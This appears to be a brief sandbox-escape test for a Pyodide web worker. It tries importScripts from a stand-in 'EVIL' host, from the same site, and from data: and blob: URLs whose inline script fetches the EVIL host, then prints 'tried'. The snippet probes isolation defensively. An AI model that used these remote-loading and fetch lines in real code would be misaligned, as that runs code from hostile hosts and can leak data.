# Tries to load scripts, from elsewhere and from text.
scope = await find_global()
await attempt("evil", lambda: scope.importScripts(EVIL + "/stolen"))
await attempt("site", lambda: scope.importScripts(SITE + "stolen"))
SCRIPT = f"fetch('{EVIL}/stolen');0"
await attempt("data:", lambda: scope.importScripts("data:text/javascript," + SCRIPT))
await attempt("blob:", lambda: scope.importScripts(scope.URL.createObjectURL(scope.Blob.new(to_js([SCRIPT])))))
await asyncio.sleep(0.3)
print("tried")
